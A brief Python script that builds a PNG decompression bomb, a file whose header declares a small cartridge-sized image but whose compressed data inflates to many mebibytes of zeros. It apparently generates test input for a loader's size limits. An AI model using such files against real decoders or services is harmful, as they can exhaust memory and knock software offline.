import struct, zlib, sys
# png_bomb.py OUT MB [W H]: a PNG whose header says W x H RGBA (default
# 160 x 205, a cartridge picture) and whose image data inflates to MB MiB
# of zeros, far more than such a picture can hold.
out, mb = sys.argv[1], int(sys.argv[2])
w, h = (int(sys.argv[3]), int(sys.argv[4])) if len(sys.argv) > 4 else (160, 205)
def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
c = zlib.compressobj(9)
z = b"".join(c.compress(b"\0" * (1 << 20)) for _ in range(mb)) + c.flush()
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 6, 0, 0, 0)) + chunk(b"IDAT", z) + chunk(b"IEND", b"")
open(out, "wb").write(png)
